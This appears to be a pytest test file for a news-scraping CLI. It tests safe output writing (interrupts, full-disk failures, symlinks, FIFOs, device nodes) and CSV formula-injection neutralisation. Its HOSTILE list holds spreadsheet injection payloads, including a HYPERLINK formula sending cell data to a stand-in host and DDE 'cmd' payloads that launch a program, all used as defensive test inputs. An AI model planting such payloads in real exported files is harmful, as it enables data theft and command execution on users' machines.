"""Output files of every command (issue 13, defects 2, 3 and 4), with real processes and signals.

- `clean -o X` / `extract -o X` interrupted (Ctrl-C) or failing (a write refused half-way: the
  file-size limit, as a full disk would) leave an earlier complete X untouched and no temp file;
- `-o` on a symlink replaces the link's target and keeps the link; on a device or FIFO it
  writes through instead of replacing the node;
- CSV cells that a spreadsheet would run as a formula are neutralised; JSONL keeps them exact.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import signal
import stat
import subprocess
import threading
import time
from pathlib import Path

import pytest

from fileio.csvsafe import safe_cell
from fileio.outfile import output_file

REPO = Path(__file__).resolve().parents[1]
KEPATUHAN = str(REPO / ".venv" / "bin" / "kepatuhan")
PAGE = (
    "<html lang='id'><head><meta charset='utf-8'><title>Pemkab Seluma Raih Zona Hijau</title></head><body>"
    "<article><h1>Pemkab Seluma Raih Zona Hijau</h1><p>TAIS - Pemerintah Kabupaten Seluma meraih nilai 91,25 "
    "dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan Publik oleh Ombudsman RI tahun 2024 dan masuk zona "
    "hijau dengan opini kualitas tertinggi.</p><p>Bupati Seluma Teddy Rahman menyampaikan terima kasih kepada "
    "seluruh organisasi perangkat daerah yang telah bekerja keras memperbaiki standar pelayanan.</p>"
    "<p>Kepala Perwakilan Ombudsman RI Provinsi Bengkulu menyerahkan hasil penilaian di Bengkulu.</p>"
    "</article></body></html>"
)


def page_lines(n: int, start: int = 0) -> str:
    return "".join(
        json.dumps({"id": f"p{i}", "url": f"https://seluma.example.id/berita/{i}", "html": PAGE}) + "\n"
        for i in range(start, start + n)
    )


def leftovers(d: Path) -> list[str]:
    return sorted(p.name for p in d.iterdir() if p.name.startswith(".") or p.name.endswith(".part"))


@pytest.mark.parametrize("command", ["clean", "extract"])
def test_ctrl_c_keeps_the_earlier_complete_output(tmp_path, command):
    out = tmp_path / "out.jsonl"
    out.write_text('{"id": "earlier", "complete": true}\n', encoding="utf-8")
    before = out.read_bytes()
    # input on stdin that never ends: the command is mid-batch when Ctrl-C comes
    proc = subprocess.Popen(
        [KEPATUHAN, command, "-", "-o", str(out), "--quiet"],
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    proc.stdin.write(page_lines(3))
    proc.stdin.flush()
    time.sleep(4)  # imports and the first pages
    os.killpg(proc.pid, signal.SIGINT)
    proc.communicate(timeout=60)
    assert proc.returncode != 0
    assert out.read_bytes() == before, "the interrupted command replaced the complete earlier output"
    assert leftovers(tmp_path) == []


def _limit_file_size():
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))  # a "disk" that fills after 20 kB
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG instead


@pytest.mark.parametrize("command", ["clean", "extract"])
def test_a_failed_write_keeps_the_earlier_output(tmp_path, command):
    src = tmp_path / "pages.jsonl"
    src.write_text(page_lines(60), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    out.write_text('{"id": "earlier", "complete": true}\n', encoding="utf-8")
    before = out.read_bytes()
    proc = subprocess.run(
        [KEPATUHAN, command, str(src), "-o", str(out), "--quiet"],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=_limit_file_size,  # (no .pyc writes under the limit)
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and "File too large" in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert out.read_bytes() == before
    assert leftovers(tmp_path) == []


def test_output_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path):
    src = tmp_path / "pages.jsonl"
    src.write_text(page_lines(2), encoding="utf-8")
    real = tmp_path / "data" / "articles.jsonl"
    real.parent.mkdir()
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(real)
    proc = subprocess.run(
        [KEPATUHAN, "clean", str(src), "-o", str(link), "--quiet"], capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == 0, proc.stderr
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert [json.loads(x)["id"] for x in real.read_text().splitlines()] == ["p0", "p1"]


def test_output_to_a_fifo_writes_through(tmp_path):
    src = tmp_path / "pages.jsonl"
    src.write_text(page_lines(2), encoding="utf-8")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    proc = subprocess.run(
        [KEPATUHAN, "extract", str(src), "-o", str(fifo), "--quiet"], capture_output=True, text=True, timeout=300
    )
    reader.join(timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert [json.loads(x)["id"] for x in got[0].decode().splitlines()] == ["p0", "p1"]


@pytest.mark.skipif(os.geteuid() != 0, reason="creating a device node needs root")
def test_output_to_a_device_writes_through(tmp_path):
    """A private copy of /dev/null (same device numbers): as root, renaming over it would turn
    the device into a regular file, which on the real /dev/null breaks the machine."""
    src = tmp_path / "pages.jsonl"
    src.write_text(page_lines(2), encoding="utf-8")
    null = tmp_path / "null"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    for command in ("clean", "extract"):
        proc = subprocess.run(
            [KEPATUHAN, command, str(src), "-o", str(null), "--quiet"], capture_output=True, text=True, timeout=300
        )
        assert proc.returncode == 0, proc.stderr
        assert stat.S_ISCHR(os.stat(null).st_mode), f"{command} replaced the device node with a regular file"


def test_output_file_discards_on_error_and_keeps_permissions(tmp_path):
    target = tmp_path / "hasil.csv"
    target.write_text("lama\n")
    os.chmod(target, 0o640)
    with pytest.raises(RuntimeError):
        with output_file(target) as fh:
            fh.write("baru, setengah")
            raise RuntimeError("disk penuh")
    assert target.read_text() == "lama\n" and leftovers(tmp_path) == []
    with output_file(target) as fh:
        fh.write("baru\n")
    assert target.read_text() == "baru\n" and stat.S_IMODE(os.stat(target).st_mode) == 0o640


# ---------------------------------------------------------------------------- CSV formula injection
HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik hasil penilaian")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_safe_cell_follows_the_owasp_rule():
    for v in HOSTILE:
        assert safe_cell(v) == "'" + v
    for v in ("Kabupaten Seluma", "-2,5", "-12", "88.30", "", None, 91.25, -3, "zona hijau - kuning"):
        assert safe_cell(v) == v


def test_export_csv_neutralises_formulas_and_jsonl_keeps_them(tmp_path):
    from corpus.export import export
    from corpus.store import Corpus

    text = (
        "Pemerintah Kabupaten Seluma meraih nilai 91,25 dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan "
        "Publik Ombudsman RI tahun 2024 dan masuk zona hijau."
    )
    with Corpus.open(f"sqlite:///{tmp_path / 'c.sqlite'}") as corpus:
        corpus.ingest_article(
            {
                "id": "x1",
                "url": "https://seluma.example.id/berita/1",
                "text": text,
                "title": HOSTILE[0],
                "site": HOSTILE[3],
                "published": "2024-12-13",
            }
        )
        corpus.consolidate()
        export(corpus, tmp_path / "csv", "csv")
        export(corpus, tmp_path / "jsonl", "jsonl")
    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["title"] == "'" + HOSTILE[0] and row["site"] == "'" + HOSTILE[3]
    (line,) = (tmp_path / "jsonl" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["title"] == HOSTILE[0] and json.loads(line)["site"] == HOSTILE[3]
    with open(tmp_path / "csv" / "records.csv", encoding="utf-8", newline="") as fh:
        rec = next(csv.DictReader(fh))
    assert rec["score"] == "91.25"  # numbers untouched


def test_audit_csv_neutralises_formulas(tmp_path):
    from audit.report import write_csv

    finding = {
        "kind": "score_mismatch",
        "severity": "high",
        "entity": HOSTILE[1],
        "year": 2024,
        "reported_value": "-2.5",
        "url": HOSTILE[0],
        "evidence": HOSTILE[4],
        "highlight": [[0, 3]],
    }
    write_csv([finding], tmp_path / "audit.csv")
    with open(tmp_path / "audit.csv", encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["entity"] == "'" + HOSTILE[1] and row["url"] == "'" + HOSTILE[0] and row["evidence"] == "'" + HOSTILE[4]
    assert row["reported_value"] == "-2.5" and row["highlight_start"] == "0"
